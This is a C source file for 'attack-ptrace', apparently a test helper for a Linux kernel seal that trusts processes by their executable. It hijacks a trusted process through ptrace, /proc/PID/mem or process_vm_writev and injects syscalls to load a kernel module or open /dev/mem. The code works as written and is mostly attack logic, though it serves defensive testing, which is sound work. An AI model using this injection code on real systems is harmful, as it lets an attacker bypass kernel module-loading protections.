/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Guest attacker: takes over a running insmod=/mem_allow= program with ptrace or /proc/PID/mem and makes it do a system call for us. */

/*
 * The seal trusts a process because of the inode it was executed from. A
 * root attacker who can control such a process's registers or memory makes
 * it load any module (or open /dev/mem) on the attacker's behalf. This
 * program tries every way in it knows, and prints one line per step:
 *
 *   attack-ptrace attach PID ACTION...     PTRACE_ATTACH (then PTRACE_SEIZE) to a running process
 *   attack-ptrace traceme ACTION... -- PROG ARGS...
 *                                          fork; the child does PTRACE_TRACEME and execs PROG;
 *                                          the parent takes over at the exec stop
 *   attack-ptrace procmem PID              open /proc/PID/mem read-write; on success, write the
 *                                          bytes of its first executable page back in place
 *   attack-ptrace vmwrite PID              process_vm_writev() of the same bytes
 *
 * ACTION: "load FILE FLAGS" injects open(FILE) + finit_module(fd, "", FLAGS)
 *         "open PATH"       injects open(PATH, O_RDWR)
 *
 * Output lines the tests match: "attach: ok|EPERM", "exec: EPERM", "injected finit_module: ok|E...",
 * "injected open: ok|E...", "procmem open: ok|EPERM", "procmem write: ok|E...", "vmwrite: ok|E...".
 * Exit 0 when an injected or direct write succeeded (the attack worked), 1 otherwise.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *errname(int err)
{
	const char *n = strerrorname_np(err);

	return n ? n : "E?";
}

/* "ok" for rc >= 0, else the errno name; for results that come back as -errno in rax. */
static const char *kresult(long rc)
{
	return rc >= 0 ? "ok" : errname((int)-rc);
}

static int wait_stop(pid_t pid, int *status)
{
	if (waitpid(pid, status, __WALL) < 0) {
		printf("waitpid: %s\n", errname(errno));
		return -1;
	}
	if (!WIFSTOPPED(*status)) {
		printf("tracee ended (status 0x%x)\n", *status);
		return -1;
	}
	return 0;
}

/* Copies len bytes into the tracee at addr, word by word (rounded up; the tail word is read first). */
static int poke_bytes(pid_t pid, unsigned long addr, const void *src, size_t len)
{
	size_t off;

	for (off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		size_t n = len - off < sizeof(long) ? len - off : sizeof(long);

		if (n < sizeof(long)) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, pid, addr + off, NULL);
			if (errno)
				return -1;
		}
		memcpy(&word, (const char *)src + off, n);
		if (ptrace(PTRACE_POKEDATA, pid, addr + off, word) < 0)
			return -1;
	}
	return 0;
}

/*
 * Runs one system call in the stopped tracee: writes "syscall; int3" over
 * the instruction at rip, sets the registers, continues to the int3, reads
 * rax, and puts the code back. orig_rax = -1 keeps the kernel from
 * restarting a system call the tracee was sleeping in.
 */
static long inject_syscall(pid_t pid, const struct user_regs_struct *saved, long nr,
			   unsigned long a1, unsigned long a2, unsigned long a3)
{
	struct user_regs_struct regs = *saved;
	long code, patched;
	int status;

	errno = 0;
	code = ptrace(PTRACE_PEEKTEXT, pid, saved->rip, NULL);
	if (errno)
		return -errno;
	patched = (code & ~0xffffffL) | 0xcc050fL;     /* 0f 05 = syscall, cc = int3 */
	if (ptrace(PTRACE_POKETEXT, pid, saved->rip, patched) < 0)
		return -errno;
	regs.rax = nr;
	regs.orig_rax = -1;
	regs.rdi = a1;
	regs.rsi = a2;
	regs.rdx = a3;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_CONT, pid, NULL, 0) < 0)
		return -errno;
	if (wait_stop(pid, &status) < 0)
		return -ECHILD;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
		return -errno;
	ptrace(PTRACE_POKETEXT, pid, saved->rip, code);
	return (long)regs.rax;
}

/* Does ACTION inside the stopped tracee. Returns 0 if the injected call succeeded. */
static int do_action(pid_t pid, char **action)
{
	struct user_regs_struct saved;
	unsigned long scratch;
	long fd, rc;
	int ret = 1;

	if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) {
		printf("getregs: %s\n", errname(errno));
		return 1;
	}
	/* a scratch area well below the tracee's stack pointer (past the red zone) */
	scratch = (saved.rsp - 8192) & ~0xfUL;
	if (poke_bytes(pid, scratch, action[1], strlen(action[1]) + 1) < 0 ||
	    poke_bytes(pid, scratch + 4096, "", 1) < 0) {
		printf("poke: %s\n", errname(errno));
		goto out;
	}
	if (strcmp(action[0], "load") == 0) {
		fd = inject_syscall(pid, &saved, SYS_open, scratch, O_RDONLY, 0);
		if (fd < 0) {
			printf("injected open: %s\n", kresult(fd));
			goto out;
		}
		rc = inject_syscall(pid, &saved, SYS_finit_module, fd, scratch + 4096,
				    strtoul(action[2], NULL, 0));
		printf("injected finit_module: %s\n", kresult(rc));
		inject_syscall(pid, &saved, SYS_close, fd, 0, 0);
	} else {
		rc = inject_syscall(pid, &saved, SYS_open, scratch, O_RDWR, 0);
		printf("injected open: %s\n", kresult(rc));
		if (rc >= 0)
			inject_syscall(pid, &saved, SYS_close, rc, 0, 0);
	}
	ret = rc < 0;
out:
	ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	return ret;
}

static int action_len(char **argv)
{
	if (argv[0] && strcmp(argv[0], "load") == 0 && argv[1] && argv[2])
		return 3;
	if (argv[0] && strcmp(argv[0], "open") == 0 && argv[1])
		return 2;
	return -1;
}

static int cmd_attach(pid_t pid, char **action)
{
	int status, ret;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
		printf("attach: %s\n", errname(errno));
		/* PTRACE_SEIZE takes another path into the same check; try it too */
		if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
			printf("seize: %s\n", errname(errno));
			return 1;
		}
		printf("seize: ok\n");
		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
			return 1;
	} else {
		printf("attach: ok\n");
	}
	if (wait_stop(pid, &status) < 0)
		return 1;
	ret = do_action(pid, action);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return ret;
}

static int cmd_traceme(char **action, char **prog)
{
	int status, ret, pipefd[2];
	pid_t pid;

	if (pipe2(pipefd, O_CLOEXEC) < 0)
		return 1;
	pid = fork();
	if (pid < 0)
		return 1;
	if (pid == 0) {
		int err;

		close(pipefd[0]);
		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0) {
			err = errno;
			(void)!write(pipefd[1], &err, sizeof(err));
			_exit(126);
		}
		execv(prog[0], prog);
		err = errno;
		(void)!write(pipefd[1], &err, sizeof(err));
		_exit(127);
	}
	close(pipefd[1]);
	/* the child is stopped by SIGTRAP after a successful exec, or ends after a failed one */
	if (waitpid(pid, &status, __WALL) < 0)
		return 1;
	if (!WIFSTOPPED(status)) {
		int err = 0;

		if (read(pipefd[0], &err, sizeof(err)) == sizeof(err))
			printf("exec: %s\n", errname(err));
		else
			printf("exec: child ended (status 0x%x)\n", status);
		return 1;
	}
	printf("exec: ok (traced)\n");
	ret = do_action(pid, action);
	kill(pid, SIGKILL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	waitpid(pid, &status, 0);
	return ret;
}

/* The start address and length of the first r-xp mapping in /proc/PID/maps. */
static int first_text(pid_t pid, unsigned long *start, size_t *len)
{
	char path[64], line[512];
	unsigned long a, b;
	char perms[8];
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) == 3 && strcmp(perms, "r-xp") == 0) {
			fclose(f);
			*start = a;
			*len = b - a < 4096 ? b - a : 4096;
			return 0;
		}
	}
	fclose(f);
	return -1;
}

static int cmd_procmem(pid_t pid)
{
	char path[64], buf[4096];
	unsigned long start;
	size_t len;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		printf("procmem open: %s\n", errname(errno));
		return 1;
	}
	printf("procmem open: ok\n");
	if (first_text(pid, &start, &len) < 0) {
		printf("procmem write: no r-xp mapping\n");
		return 1;
	}
	/* write the code back unchanged: proves write access to the text without breaking the process */
	if (pread(fd, buf, len, (off_t)start) != (ssize_t)len || pwrite(fd, buf, len, (off_t)start) != (ssize_t)len) {
		printf("procmem write: %s\n", errname(errno));
		return 1;
	}
	printf("procmem write: ok\n");
	return 0;
}

static int cmd_vmwrite(pid_t pid)
{
	unsigned long start;
	char buf[64] = { 0 };
	struct iovec local = { buf, sizeof(buf) }, remote;
	size_t len;
	ssize_t n;

	if (first_text(pid, &start, &len) < 0) {
		printf("vmwrite: no r-xp mapping\n");
		return 1;
	}
	remote.iov_base = (void *)start;
	remote.iov_len = sizeof(buf);
	n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
	if (n == (ssize_t)sizeof(buf))
		n = process_vm_writev(pid, &local, 1, &remote, 1, 0);
	printf("vmwrite: %s\n", n >= 0 ? "ok" : errname(errno));
	return n < 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: attack-ptrace attach PID ACTION... | traceme ACTION... -- PROG ARGS... | "
			"procmem PID | vmwrite PID\n       ACTION: load FILE FLAGS | open PATH\n");
	return 2;
}

int main(int argc, char **argv)
{
	int n;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "procmem") == 0)
		return cmd_procmem(atoi(argv[2]));
	if (argc >= 3 && strcmp(argv[1], "vmwrite") == 0)
		return cmd_vmwrite(atoi(argv[2]));
	if (argc >= 4 && strcmp(argv[1], "attach") == 0) {
		if (action_len(&argv[3]) < 0)
			return usage();
		return cmd_attach(atoi(argv[2]), &argv[3]);
	}
	if (argc >= 4 && strcmp(argv[1], "traceme") == 0) {
		n = action_len(&argv[2]);
		if (n < 0 || argc < 2 + n + 2 || strcmp(argv[2 + n], "--") != 0)
			return usage();
		return cmd_traceme(&argv[2], &argv[3 + n]);
	}
	return usage();
}
